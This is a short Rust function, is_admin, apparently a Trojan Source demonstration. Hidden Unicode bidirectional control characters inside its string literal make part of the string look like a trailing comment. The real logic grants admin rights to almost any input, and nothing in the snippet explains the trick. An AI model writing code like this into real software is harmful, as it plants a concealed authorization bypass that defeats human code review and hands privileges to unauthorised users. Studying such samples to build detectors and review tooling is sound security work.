pub fn is_admin(access_level: &str) -> bool {
    if access_level != "user‮ ⁦// Check if admin⁩ ⁦" {
        return true;
    }
    false
}
